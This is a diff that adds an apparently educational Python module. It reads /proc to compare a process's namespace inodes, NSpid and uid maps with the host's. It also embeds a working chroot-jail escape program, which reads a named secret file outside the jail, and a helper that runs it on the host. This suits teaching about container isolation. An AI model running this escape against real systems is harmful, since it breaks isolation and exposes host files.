@@ -1,0 +1,144 @@
+"""Looking at namespaces from the outside: what ``/proc`` tells about a process.
+
+Every process has a link per namespace type in ``/proc/PID/ns/`` (``mnt``, ``pid``, ``net``, ``uts``,
+``ipc``, ``user``, ``cgroup``, ``time``), whose target reads like ``net:[4026531840]``. The number is
+the inode of the namespace in the kernel's internal ``nsfs``: two processes are in the same namespace
+exactly when the numbers match. ``/proc/PID/status`` has a line ``NSpid:`` listing the process's PID in
+every PID namespace it is visible in, outermost first — the host's PID and, last, the container's
+(``1`` for its init). ``/proc/PID/uid_map`` shows how a user namespace maps ids to the outside.
+
+This module only reads those files; notebook 01 and :mod:`boxkit.viz.namespaces` show the results.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from dataclasses import dataclass
+
+NS_TYPES = ("mnt", "pid", "net", "uts", "ipc", "user", "cgroup", "time")
+NS_MEANING = {
+    "mnt": "mount points (file system view)", "pid": "process ids", "net": "network stack",
+    "uts": "hostname", "ipc": "System V IPC and POSIX queues", "user": "user and group ids",
+    "cgroup": "cgroup root", "time": "boot and monotonic clocks",
+}
+
+
+def ns_inodes(pid: int | str = "self") -> dict[str, int]:
+    out = {}
+    for t in NS_TYPES:
+        try:
+            link = os.readlink(f"/proc/{pid}/ns/{t}")
+        except OSError:
+            continue
+        out[t] = int(link[link.index("[") + 1:-1])
+    return out
+
+
+def nspid(pid: int) -> list[int]:
+    """The PID of ``pid`` in each PID namespace, host first."""
+    with open(f"/proc/{pid}/status") as f:
+        for line in f:
+            if line.startswith("NSpid:"):
+                return [int(x) for x in line.split()[1:]]
+    return [pid]
+
+
+def id_map(pid: int, kind: str = "uid") -> list[tuple[int, int, int]]:
+    with open(f"/proc/{pid}/{kind}_map") as f:
+        return [tuple(int(x) for x in line.split()) for line in f if line.strip()]  # type: ignore[misc]
+
+
+@dataclass
+class NamespaceRow:
+    type: str
+    meaning: str
+    host: int
+    container: int
+
+    @property
+    def isolated(self) -> bool:
+        return self.host != self.container
+
+
+def compare(pid: int, host_pid: int | str = 1) -> list[NamespaceRow]:
+    """One row per namespace type: the host's inode (PID 1 of the host) beside the container's."""
+    h, c = ns_inodes(host_pid), ns_inodes(pid)
+    return [NamespaceRow(t, NS_MEANING[t], h[t], c[t]) for t in NS_TYPES if t in h and t in c]
+
+
+class NamespaceTable(list):
+    """A list of rows that renders as an HTML table in a notebook."""
+
+    def _repr_html_(self) -> str:
+        rows = "".join(
+            f"<tr><td><code>{r.type}</code></td><td>{r.meaning}</td><td>{r.host}</td><td>{r.container}</td>"
+            f"<td style='color:{'green' if r.isolated else 'gray'}'>{'own' if r.isolated else 'shared with host'}"
+            "</td></tr>" for r in self)
+        return ("<table><tr><th>ns</th><th>isolates</th><th>host inode</th><th>container inode</th>"
+                f"<th></th></tr>{rows}</table>")
+
+    def __str__(self) -> str:
+        lines = [f"{'ns':<7} {'host':>11} {'container':>11}  isolated"]
+        lines += [f"{r.type:<7} {r.host:>11} {r.container:>11}  {r.isolated}" for r in self]
+        return "\n".join(lines)
+
+
+def table(pid: int) -> NamespaceTable:
+    return NamespaceTable(compare(pid))
+
+
+# A chroot jail is escapable by a process that may call chroot(2): chroot into a subdirectory leaves the
+# working directory *outside* the new root, from where ``..`` climbs to the real root, and a second
+# chroot(".") makes that the root again. pivot_root plus detaching the old root leaves nothing to climb to.
+CHROOT_ESCAPE = r"""
+import os, sys
+os.makedirs("/.escape", exist_ok=True)
+os.chroot("/.escape")           # new root below us; our cwd is now outside it
+for _ in range(64):
+    os.chdir("..")              # climb past the jail's root
+os.chroot(".")                  # and make the top the root again
+try:
+    print(open(sys.argv[1]).read().strip())
+except OSError as e:
+    print("not reachable:", e.strerror)
+"""
+
+
+def chroot_escape_on_host(jail: str, secret_file: str, python: str = "python3") -> str:
+    """Run the escape program in a plain ``chroot`` jail on the host (chroot(8), so the calling
+    process never forks itself); returns what it printed."""
+    out = subprocess.run(["chroot", jail, python, "-c", CHROOT_ESCAPE, secret_file],
+                         capture_output=True, text=True, timeout=30)
+    return (out.stdout + out.stderr).strip()
+
+
+def _comm(pid: int | str) -> str:
+    try:
+        with open(f"/proc/{pid}/comm") as f:
+            return f.read().strip()
+    except OSError:
+        return "?"
+
+
+def snapshot(pid: int, hostname: str | None = None) -> dict:
+    """What the namespace figure draws: the container's processes with both PIDs, a few host
+    processes for contrast, and the namespace table — all read from /proc now."""
+    mine = ns_inodes(pid)
+    inside = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            if ns_inodes(entry).get("pid") == mine.get("pid"):
+                inside.append({"host_pid": int(entry), "pids": nspid(int(entry)), "comm": _comm(entry)})
+        except OSError:
+            continue
+    host = [{"host_pid": p, "comm": _comm(p)} for p in (1, os.getpid())]
+    try:
+        with open("/proc/sys/kernel/hostname") as f:
+            host_name = f.read().strip()
+    except OSError:
+        host_name = "host"
+    return {"container": sorted(inside, key=lambda d: d["pids"][-1]), "host": host,
+            "rows": [vars(r) for r in compare(pid)], "hostname": hostname, "host_hostname": host_name}
